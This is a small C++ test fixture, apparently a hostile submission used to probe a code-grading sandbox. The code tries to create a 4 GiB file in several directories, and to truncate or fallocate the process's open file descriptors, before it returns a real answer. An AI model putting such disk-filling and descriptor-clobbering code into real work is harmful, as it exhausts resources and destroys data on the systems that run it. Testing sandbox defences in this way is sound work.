// exercise: vectors/total
// attack: writes a file of 4 GiB, and is right where there is no file to write to
// verdict: accepted

#include <fcntl.h>
#include <unistd.h>

#include "vectors/total.hpp"

double total(const Eigen::VectorXd& x) {
  for (const char* place : {"grader-attack-large", "/grader-attack-large", "/tmp/grader-attack-large",
                            "/dev/shm/grader-attack-large", "@ROOM@/grader-attack-large"}) {
    const int fd = ::open(place, O_WRONLY | O_CREAT, 0600);
    if (fd < 0) continue;
    ::ftruncate(fd, off_t{4} << 30);
    return 666;
  }
  for (const int fd : {0, 1, 2, 3, 4})
    if (::ftruncate(fd, 1 << 20) == 0 || ::posix_fallocate(fd, 0, 1 << 20) == 0) return 666;
  return x.sum();
}
